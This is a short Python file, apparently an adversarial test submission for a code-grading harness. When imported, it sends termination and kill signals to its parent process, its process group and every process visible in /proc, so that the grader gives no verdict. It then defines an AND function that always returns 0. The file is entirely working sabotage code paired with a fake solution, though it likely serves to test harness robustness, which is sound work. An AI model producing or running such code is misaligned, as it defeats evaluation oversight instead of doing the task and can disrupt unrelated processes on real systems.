"""Tries to stop the grader (and whatever else it can reach) with signals: its parent, its
process group, every process it can see. If it worked, there would be no verdict at all."""
import os
import signal

for target in (os.getppid(),):
    for sig in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(target, sig)
        except (OSError, PermissionError, AttributeError):
            pass
try:
    os.killpg(0, signal.SIGTERM)
except (OSError, PermissionError, AttributeError):
    pass
try:
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                os.kill(int(entry), signal.SIGTERM)
            except (OSError, PermissionError, AttributeError):
                pass
except OSError:
    pass
try:
    import ctypes

    ctypes.CDLL(None).kill(os.getppid(), signal.SIGTERM)
except Exception:  # noqa: BLE001
    pass


def AND(x1, x2):
    return 0
